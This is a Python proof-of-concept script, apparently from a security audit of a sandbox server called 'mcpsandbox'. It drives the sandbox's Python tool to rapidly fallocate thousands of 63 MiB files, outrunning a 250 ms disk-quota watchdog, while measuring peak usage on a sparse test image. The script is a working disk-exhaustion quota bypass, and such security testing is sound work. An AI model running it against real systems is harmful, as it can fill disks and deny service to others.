# F8: fallocate puts data in a call's layer faster than the quota watchdog (250 ms poll) can see.
# Safe set-up: serve runs in a private mount namespace where /var/tmp (the layers' disk) is a 1 TB *sparse* ext4 image
# (no journal; fallocate there writes only bitmaps), so the real disk is not filled.
import sys, json, os, subprocess, time, threading
sys.path.insert(0, "/work/notes/atk32")
import stdio
class NS(stdio.Stdio):
    def __init__(self, policy):
        env=dict(os.environ, HOME="/tmp/atk32/home", XDG_STATE_HOME="/tmp/atk32/home/.local/state")
        cmd = "mount -o loop /tmp/atk32x/big.img /var/tmp && (while sleep 0.05; do df -B1M --output=used /var/tmp | tail -1; done > /tmp/atk32x/f8-df.log 2>&1 & echo $! > /tmp/atk32x/f8-df.pid) && exec /tmp/atk32/mcpsandbox serve --policy " + policy
        self.p=subprocess.Popen(["unshare","-m","--propagation","private","sh","-c",cmd],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=open("/tmp/atk32x/f8-serve.log","wb"),env=env)
        self.q={}; self.n=100; self.lock=threading.Lock(); self.cv=threading.Condition(self.lock)
        threading.Thread(target=self.reader,daemon=True).start()
        self.req("initialize",{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"atk","version":"1"}})
        self.send({"jsonrpc":"2.0","method":"notifications/initialized"})
N = int(sys.argv[1]) if len(sys.argv) > 1 else 3000
s = NS("/tmp/atk32x/pol.toml")
code = r'''
import os, time, sys
t=time.time(); i=0
try:
    while i < %d:
        fd=os.open("f%%d"%%i, os.O_CREAT|os.O_WRONLY, 0o644); os.posix_fallocate(fd, 0, 63<<20); os.close(fd); i+=1
        if i %% 200 == 0: print(i, "files,", i*63//1024, "GiB in", round(time.time()-t,3), "s", flush=True)
except Exception as e: print("stopped:", e, flush=True)
print("done", i, round(time.time()-t,3), flush=True)
''' % N
t=time.time()
r = s.py(code)
st = stdio.sc(r)
print("answer after %.2fs:" % (time.time()-t), json.dumps({k: st.get(k) for k in ("exit_code","timed_out","workspace")})[:600])
print("stdout:", st.get("stdout","")[-800:])
print("text:", r["result"]["content"][0]["text"][-600:])
s.p.stdin.close(); s.p.wait()
try: os.kill(int(open('/tmp/atk32x/f8-df.pid').read()), 15)
except Exception as e: print('df loop:', e)
used=[int(x) for x in open("/tmp/atk32x/f8-df.log").read().split() if x.isdigit()]
print("peak used on the layers' disk: %d MiB (samples every 50 ms: %d)" % (max(used), len(used)))
